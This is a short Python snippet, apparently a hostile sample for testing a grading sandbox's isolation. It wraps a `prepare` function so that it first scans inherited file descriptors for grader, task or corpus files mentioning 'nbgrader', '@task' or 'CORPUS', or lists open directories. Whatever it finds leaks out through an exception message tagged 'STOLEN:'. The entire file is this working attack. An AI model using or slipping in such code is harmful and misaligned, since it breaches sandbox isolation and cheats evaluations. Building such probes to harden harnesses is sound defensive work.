# what: reads from every descriptor that it was born with
# %% extra after=prepare
import os
import stat

honest_prepare = prepare


def attack():
    for fd in range(3, 256):
        try:
            kind = os.fstat(fd).st_mode
        except OSError:
            continue
        if stat.S_ISREG(kind):
            text = os.pread(fd, 4000, 0)
            if b"nbgrader" in text or b"@task" in text or b"CORPUS" in text:
                return text
        if stat.S_ISDIR(kind):
            return os.listdir(fd)


def prepare(passengers):
    try:
        loot = attack()
    except Exception:
        loot = None
    if loot:
        raise RuntimeError("STOL" "EN:" + str(loot)[:2000])
    return honest_prepare(passengers)
